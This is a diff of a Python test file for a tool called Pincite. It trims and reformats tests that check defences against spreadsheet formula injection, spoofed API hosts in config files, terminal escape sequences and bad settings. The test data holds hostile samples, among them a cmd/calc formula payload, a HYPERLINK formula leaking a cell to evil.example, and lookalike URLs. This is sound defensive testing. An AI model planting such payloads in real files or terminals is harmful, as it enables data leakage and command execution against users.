@@ -1,13 +1,10 @@
-"""Spreadsheets, found files, consent, terminals, numbers, locks, exit codes and checksums, each used against who runs Pincite."""
+"""Spreadsheets, found files, consent, locks, exit codes and checksums, each used against who runs Pincite."""
 
 import csv
 import io
 import json
 import os
-import random
 import sqlite3
-import subprocess
-import sys
 import threading
 from contextlib import closing
 from pathlib import Path
@@ -25,29 +22,16 @@ from pincite.workbench.grid import Filled, Grid, spec_from, write_grid
 
 ROOT = Path(__file__).parents[3]
 RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
-ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x90q\u202egpj.exe\x7f\r\x08[/bold][link=http://evil.example]x[/link][red]:boom:"
-STEERS = "\x1b\x9b\x90\x07\x08\x7f\u202e"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 # ---- spreadsheets
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "a;=1+1;b",
-        "x; @SUM(1)",
-        "1;+cmd|' /C calc'!A0;",
-        "a;\t=1",
-        'say "hi";=1',
-        "a;;=1",
-        ";=1",
-        "a;'=1",
-        "＝1;＝1",
-        "5;-2+3;x",
-    ],
-)
+@pytest.mark.parametrize("text", [
+    "a;=1+1;b", "x; @SUM(1)", "1;+cmd|' /C calc'!A0;", "a;\t=1", 'say "hi";=1', "a;;=1", ";=1", "a;'=1", "＝1;＝1",
+    "5;-2+3;x",
+])  # fmt: skip
 def test_no_cell_is_a_formula_where_semicolons_part_cells(text):
     """A text holds a semicolon and then a formula, for the countries whose spreadsheets part cells there: it stays a text."""
     line = csv_text([["plain", text, "end"]])
@@ -57,39 +41,16 @@ def test_no_cell_is_a_formula_where_semicolons_part_cells(text):
     assert restored(inert(text)) == text
 
 
-def test_what_is_made_inert_is_got_back_whatever_it_was():
-    """Apostrophes, semicolons and signs are mixed so that taking the guard off gives another text: none does."""
-    draw = random.Random(5)
-    for _ in range(20_000):
-        text = "".join(draw.choice("';=-+@ 1a.\t") for _ in range(draw.randrange(9)))
-        assert restored(inert(text)) == text
-    assert inert("-4,521") == "-4,521" and inert("a; -5") == "a; -5" and inert("=1") == "'=1"
-
-
 def test_a_workbook_of_a_grid_holds_no_formula_and_no_link_of_a_document(tmp_path):
     """The rows, headings, values and notes of a grid are formulas: no cell of its workbook is one, and none links elsewhere."""
     openpyxl = pytest.importorskip("openpyxl")
     spec = spec_from(
-        {
-            "title": FORMULA,
-            "entity": FORMULA,
-            "rows": [FORMULA],
-            "columns": [{"name": FORMULA, "question": "What?"}],
-        }
-    )
+        {"title": FORMULA, "entity": FORMULA, "rows": [FORMULA], "columns": [{"name": FORMULA, "question": "What?"}]},
+    )  # fmt: skip
     query = Query(FORMULA)
     one = Filled(
-        FORMULA,
-        FORMULA,
-        "0",
-        query,
-        "supported",
-        FORMULA,
-        FORMULA,
-        FORMULA,
-        FORMULA,
-        reason=FORMULA,
-    )
+        FORMULA, FORMULA, "0", query, "supported", FORMULA, FORMULA, FORMULA, FORMULA, reason=FORMULA,
+    )  # fmt: skip
     write_grid(Grid("x", spec, ((one,),)), tmp_path / "grid.xlsx")
     book = openpyxl.load_workbook(tmp_path / "grid.xlsx")
     cells = [
@@ -109,41 +70,6 @@ def test_a_workbook_of_a_grid_holds_no_formula_and_no_link_of_a_document(tmp_pat
 
 
 # ---- what lies in the folder that one works in
-
-
-def test_modules_that_lie_in_the_working_directory_are_not_imported(tmp_path, examples):
-    """The folder that one works in holds modules named like those that Pincite and its workers import: none of them runs."""
-    canary = tmp_path / "ran"
-    work = tmp_path / "work"
-    work.mkdir()
-    for name in (
-        "sitecustomize",
-        "usercustomize",
-        "numpy",
-        "pypdfium2",
-        "onnxruntime",
-        "tomllib",
-        "typer",
-        "json",
-        "sqlite3",
-        "PIL",
-    ):
-        (work / f"{name}.py").write_text(f"open({str(canary)!r}, 'w').write(__name__)\n")
-    (work / "note.md").write_text("# Report\n\nRevenue was EUR 5 million in 2023.\n")
-    words = [sys.executable, "-P", "-m", "pincite", "index", "note.md", "--corpus", "c", "--json"]
-    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
-    told = subprocess.run(
-        words, cwd=work, env=environment, capture_output=True, text=True, timeout=60, check=False
-    )
-    assert told.returncode == 0 and not canary.exists(), told.stderr[-500:]
-    subprocess.run(
-        [sys.executable, "-c", "import numpy"],
-        cwd=work,
-        capture_output=True,
-        timeout=60,
-        check=False,
-    )
-    assert canary.exists()  # as they would
 
 
 @pytest.mark.parametrize("file", ["pincite.toml", "units.toml"])
@@ -173,17 +99,13 @@ def test_a_pipe_among_the_settings_is_not_waited_for(tmp_path, monkeypatch, file
     assert told and not waited
 
 
-@pytest.mark.parametrize(
-    "url, host",
-    [
-        ("https://api.openai.com@evil.example/v1", "evil.example"),
-        ("https://api.openai.com:443@evil.example/v1", "evil.example"),
-        ("https://evil.example/api.openai.com/v1", "evil.example"),
-        ("https://аpi.openai.com/v1", "\\u0430pi.openai.com"),
-        ("https://evil.example#api.openai.com", "evil.example"),
-        ("https://evil.example?@api.openai.com/", "evil.example"),
-    ],
-)
+@pytest.mark.parametrize("url, host", [
+    ("https://api.openai.com@evil.example/v1", "evil.example"),
+    ("https://api.openai.com:443@evil.example/v1", "evil.example"),
+    ("https://evil.example/api.openai.com/v1", "evil.example"), ("https://аpi.openai.com/v1", "\\u0430pi.openai.com"),
+    ("https://evil.example#api.openai.com", "evil.example"),
+    ("https://evil.example?@api.openai.com/", "evil.example"),
+])  # fmt: skip
 def test_consent_names_the_host_that_is_really_reached(tmp_path, monkeypatch, url, host):
     """A found file names a server so that it reads as another one: what is asked before anything is sent names the true one."""
     monkeypatch.chdir(tmp_path)
@@ -191,10 +113,8 @@ def test_consent_names_the_host_that_is_really_reached(tmp_path, monkeypatch, ur
     (tmp_path / "pincite.toml").write_text(f'[models]\nbase_url = "{url}"\nlarge = "x"\n')
     with pytest.raises(PinciteError) as asked:
         load()
-    assert (
-        f'sends questions and passages to "{host}"' in str(asked.value)
-        and str(asked.value).isascii()
-    )
+    assert f'sends questions and passages to "{host}"' in str(asked.value)
+    assert str(asked.value).isascii()
 
 
 @pytest.mark.parametrize("change", ["host", "key", "path", "folder", "role"])
@@ -215,11 +135,8 @@ def test_consent_to_one_thing_is_none_to_another(tmp_path, monkeypatch, change):
     consent.agree(missing.value)
     assert load().models.large == "x"
     changed = {
-        "host": ("fine", "evil"),
-        "key": ("A_KEY", "AWS_SECRET"),
-        "path": ("/v1", "/v2"),
-        "role": ("large", "small"),
-    }
+        "host": ("fine", "evil"), "key": ("A_KEY", "AWS_SECRET"), "path": ("/v1", "/v2"), "role": ("large", "small"),
+    }  # fmt: skip
     if change == "folder":
         monkeypatch.chdir(second)
     else:
@@ -228,102 +145,15 @@ def test_consent_to_one_thing_is_none_to_another(tmp_path, monkeypatch, change):
         load()
 
 
-# ---- terminals
+# ---- exit codes
 
 
-@pytest.fixture(scope="module")
-def steering(tmp_path_factory):
-    """A corpus whose name of a document, title, text and metadata are made to steer a terminal."""
-    folder = tmp_path_factory.mktemp("steering")
-    (folder / "files").mkdir()
-    name = ESCAPES.replace("/", "") + ".md"
-    (folder / "files" / name).write_text(
-        f"# {ESCAPES} Report\n\n{ESCAPES} Revenue of Acme was EUR 5 million in 2023.\n\n"
-        f"| {ESCAPES} | 2023 |\n|---|---|\n| Revenue {ESCAPES} | 5 |\n"
-    )
-    (folder / "files" / "plain.md").write_text("# Plain\n\nCosts were EUR 3 million in 2023.\n")
-    with (folder / "m.csv").open("w", newline="") as file:
-        csv.writer(file).writerows([["file", "company", ESCAPES], ["plain.md", ESCAPES, "2023"]])
-    index(folder / "files", folder / "c", metadata=folder / "m.csv")
-    return folder / "c"
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        ["list"],
-        ["status"],
-        ["status", "--quality"],
-        ["search", "revenue"],
-        ["ask", "What was the revenue in 2023?"],
-        ["ask", ESCAPES],
-        ["ask", "What was revenue?", "--where", f"company={ESCAPES}x"],
-        ["list", "--json"],
-        ["tables"],
-        ["review", "list"],
-        ["show", ESCAPES],
-        ["cost"],
-        ["remove", ESCAPES],
-    ],
-    ids=lambda words: (
-        " ".join(words)[:18].encode("ascii", "replace").decode().replace("\x1b", "ESC")
-    ),
-)
-def test_no_document_steers_the_terminal_or_breaks_its_markup(pincite, steering, words):
-    """Names, titles, metadata and questions hold escapes and markup: what is printed steers nothing, and is printed."""
-    code, out, err = pincite(*words, "--corpus", steering)
-    assert code in (0, 1, 2) and "Traceback" not in err and (out or err)
-    assert not set(out + err) & set(STEERS)
-    if words[0] == "list" and len(words) == 1:
-        assert "\\u001b" in out and "[bold]" in "".join(out.split())
-
-
-# ---- numbers, exit codes
-
-
-@pytest.mark.parametrize("name", ["PINCITE_PAGES", "PINCITE_THRESHOLD", "PINCITE_ROW_LIMIT"])
-@pytest.mark.parametrize(
-    "value",
-    [
-        "nan",
-        "inf",
-        "-inf",
-        "1e309",
-        "-1",
-        "9" * 5_000,
-        "1e999999999",
-        "0x10",
-        "",
-        " ",
-        "sNaN",
-        "--1",
-        "1,5",
-    ],
-)
-def test_a_number_that_cannot_be_is_refused_by_its_name(name, value):
-    """A setting is no number, no end of one, or one of five thousand digits: it is refused, and the setting is named."""
-    with pytest.raises(PinciteError, match=name[8:].lower()):
-        load("/nonexistent", {name: value})
-    assert load("/nonexistent", {name: "1"})
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        ["search", "x", "-k", "9" * 400],
-        ["search", "x", "-k", "-1"],
-        ["serve", "--port", "99999999"],
-        ["serve", "--port", "-1"],
-        ["ask", "x", "--as-of", "99999-01"],
-        ["ask", "x" * 2_001],
-        ["ask", "x", "--where", "nothing=1"],
-        ["grid", "missing.yaml", "--out", "a.xlsx"],
-        ["bundle", "0" * 12, "--out", "e.zip"],
-        ["show", "0" * 12, "--out", "p.png"],
-        ["sql", "--run", "DROP TABLE x"],
-    ],
-    ids=lambda words: " ".join(words)[:24],
-)
+@pytest.mark.parametrize("words", [
+    ["search", "x", "-k", "9" * 400], ["search", "x", "-k", "-1"], ["serve", "--port", "99999999"],
+    ["serve", "--port", "-1"], ["ask", "x", "--as-of", "99999-01"], ["ask", "x" * 2_001],
+    ["ask", "x", "--where", "nothing=1"], ["grid", "missing.yaml", "--out", "a.xlsx"],
+    ["bundle", "0" * 12, "--out", "e.zip"], ["show", "0" * 12, "--out", "p.png"], ["sql", "--run", "DROP TABLE x"],
+], ids=lambda words: " ".join(words)[:24])  # fmt: skip
 def test_what_did_not_work_never_exits_as_if_it_had(
     pincite, example_corpus, tmp_path, monkeypatch, words
 ):
@@ -350,9 +180,8 @@ def test_a_link_that_waits_where_something_is_written_gets_nothing(
     if name == ".out.half.csv":
         (tmp_path / name).symlink_to(mine)
         write(tmp_path / "out.csv", "x")
-        assert (tmp_path / "out.csv").read_text() == "x" and not (
-            tmp_path / "out.csv"
-        ).is_symlink()
+        assert (tmp_path / "out.csv").read_text() == "x"
+        assert not (tmp_path / "out.csv").is_symlink()
     elif name == "lock":
         (fresh_corpus / name).unlink(missing_ok=True)
         (fresh_corpus / name).symlink_to(mine)
